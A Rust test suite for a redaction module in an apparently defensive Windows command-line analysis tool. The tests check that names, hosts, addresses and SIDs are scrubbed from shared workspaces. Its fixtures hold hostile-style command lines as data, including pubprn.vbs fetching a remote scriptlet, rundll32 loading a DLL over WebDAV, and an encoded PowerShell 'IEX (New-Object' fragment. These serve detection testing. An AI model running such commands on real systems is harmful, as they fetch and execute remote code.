use super::{Kind, Redacted, redact};
use crate::analyze::{OwnRule, Supplied};
use crate::report::advice::Label;
use crate::share::Workspace;

fn of(text: &str) -> Redacted {
    let work = Workspace {
        text: text.into(),
        ..Workspace::default()
    };
    redact(&work, "t1216")
}

/// None of the names stands anywhere in what is shared, in any case.
#[track_caller]
fn gone(redacted: &Redacted, names: &[&str]) {
    let shared = redacted.work.file().to_lowercase();
    for name in names {
        let escaped = serde_json::to_string(name).unwrap();
        let escaped = escaped.trim_matches('"').to_lowercase();
        assert!(!shared.contains(&escaped), "{name} is left in {shared}");
    }
    assert_eq!(redacted.left, [""; 0]);
}

#[test]
fn people_are_found_by_their_folders_and_gone_everywhere() {
    for (line, names) in [
        (r"cscript C:\Users\jsmith\a.vbs JSmith", &["jsmith"][..]),
        (
            r#"cscript "C:\Users\John Smith\a.vbs" john"#,
            &["john", "smith"],
        ),
        (r"type C:\Users\bob D:\x owner bob", &["bob"]),
        (r"dir C:\Users\alice /s", &["alice"]),
        (
            r"copy c:/users/alice/x \\srv-mail07\home$\alice",
            &["alice", "srv-mail07"],
        ),
        (r"x.exe C:\USERS\JSMIT~1\AppData jsmit~1", &["jsmit~1"]),
        (r"runas /user:CORP\mjones cmd", &["corp", "mjones"]),
        (r"winrm -u:mjones@corp.lan -p:x", &["mjones", "corp.lan"]),
        (r"tool -username mjones-adm", &["mjones"]),
        (r"net user mjones /domain", &["mjones"]),
        (
            r"schtasks /create /ru CORP\mjones /tr x",
            &["corp", "mjones"],
        ),
        (r"ssh -p 22 mjones@bastion7 ls", &["mjones", "bastion7"]),
        (r"send to m.jones@contoso.com", &["m.jones", "contoso"]),
        (r"sh /home/mjones/x.sh", &["mjones"]),
        (r"a.exe C:\Users\jsmith\x jsmith-laptop", &["jsmith"]),
    ] {
        gone(&of(line), names);
    }
}

#[test]
fn machines_and_addresses_are_found() {
    for (line, names) in [
        (r"cscript \\FILESRV01\share\pubprn.vbs", &["filesrv01"][..]),
        (
            r"cscript \\?\UNC\FILESRV01\share\x.vbs filesrv01",
            &["filesrv01"],
        ),
        (r"rundll32 \\dav01@SSL@443\x\y.dll", &["dav01"]),
        (
            r"cscript winrm.vbs i c x -r:http://dc01.corp.lan:5985",
            &["dc01", "corp.lan"],
        ),
        (r"winrm -r:dc01 i c", &["dc01"]),
        (r"wmic /node:WKS-0042 process", &["wks-0042"]),
        (
            r"x https://user:pw@intranet.corp.lan/a?b=intranet",
            &["intranet", "corp.lan"],
        ),
        (
            r"ping 10.23.4.5 192.168.77.9 8.8.4.4",
            &["10.23.4.5", "192.168.77.9", "8.8.4.4"],
        ),
        (
            r"x fe80::1ff:fe23:4567:890a 2a02:1234:5::9",
            &["fe80::1ff:fe23:4567:890a", "2a02:1234:5::9"],
        ),
        (r"x {3F2504E0-4F89-11D3-9A0C-0305E82C3301}", &["3f2504e0"]),
        (
            r"x S-1-5-21-3623811015-3361044348-30300820-1013",
            &["3623811015"],
        ),
    ] {
        gone(&of(line), names);
    }
}

#[test]
fn a_record_is_redacted_in_every_field_and_stays_a_record() {
    let record = r#"{"EventID":1,"Computer":"WKS-0042.corp.lan","User":"CORP\\mjönes","Image":"C:\\Windows\\System32\\cscript.exe","CommandLine":"cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://192.168.7.7/a.sct","CurrentDirectory":"C:\\Users\\MJ\u00d6NES\\","ParentCommandLine":"cmd /c \\\\wks-0042\\c$\\x.bat","ParentUser":"NT AUTHORITY\\SYSTEM"}"#;
    let redacted = of(record);
    gone(
        &redacted,
        &[
            "wks-0042",
            "corp.lan",
            "mjönes",
            "mj\u{d6}nes",
            "192.168.7.7",
        ],
    );
    assert!(
        !redacted.work.text.contains("u00d6"),
        "{}",
        redacted.work.text
    );
    assert_eq!(redacted.changed, Some(0), "{}", redacted.work.text);
    assert!(redacted.work.text.contains("NT AUTHORITY\\\\SYSTEM"));
    assert!(redacted.work.text.contains("127.0.0.1"));
    assert!(
        redacted.work.text.contains(r"\\Windows\\System32\\"),
        "{}",
        redacted.work.text
    );
    let folder: Vec<_> = redacted
        .replaced
        .iter()
        .filter(|one| one.kind == Kind::User)
        .collect();
    assert_eq!(folder.len(), 1, "one person, one placeholder: {folder:?}");
}

/// The samples speak of nobody, and most of them use addresses and names of documentation; what is
/// replaced changes no verdict.
#[test]
fn verdicts_of_the_pack_stay() {
    for sample in [
        include_str!("../../../../assets/samples/first-look.txt"),
        include_str!("../../../../assets/samples/winrm.txt"),
        include_str!("../../../../assets/samples/printer-admin.txt"),
        include_str!("../../../../assets/samples/appv.txt"),
        include_str!("../../../../assets/samples/evtx-dump.json"),
        include_str!("../../../../assets/samples/parents.json"),
        include_str!("../../../../assets/samples/mixture.txt"),
        include_str!("../../../../assets/samples/nested.txt"),
    ] {
        let redacted = of(sample);
        assert_eq!(
            redacted.changed,
            Some(0),
            "{:?}\n{}",
            redacted.replaced,
            redacted.work.text
        );
        assert_eq!(redacted.left, [""; 0]);
    }
}

#[test]
fn labels_fields_and_rules_follow() {
    let work = Workspace {
        text: "cmd.exe C:\\Users\\mjones\\x.bat\n".into(),
        ..Workspace::default()
    };
    let key = super::analyzed(&work, "t1216").row(0).unwrap().key;
    let rule = "title: x\nlogsource: {category: process_creation, product: windows}\ndetection:\n  a:\n    CommandLine|contains: '\\Users\\mjones\\'\n  condition: a\n";
    let work = Workspace {
        labels: [(key.clone(), Label::Benign)].into(),
        supplied: vec![Supplied {
            event: key,
            field: "ParentImage".into(),
            value: "C:\\Users\\mjones\\p.exe".into(),
        }],
        own: vec![OwnRule {
            key: "own-1".into(),
            text: rule.into(),
            language: None,
        }],
        ..work
    };
    let redacted = redact(&work, "t1216");
    gone(&redacted, &["mjones"]);
    assert_eq!(redacted.changed, Some(0));
    let key = super::analyzed(&redacted.work, "t1216").row(0).unwrap().key;
    assert_eq!(redacted.work.labels.get(&key), Some(&Label::Benign));
    assert_eq!(redacted.work.supplied[0].event, key);
}

#[test]
fn encoded_text_is_told() {
    let redacted = of("ipconfig\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\n");
    assert_eq!(redacted.encoded, [2]);
    assert_eq!(
        of("C:\\Windows\\System32\\averylongprogramnameindeedyes.exe\n").encoded,
        [0; 0]
    );
}
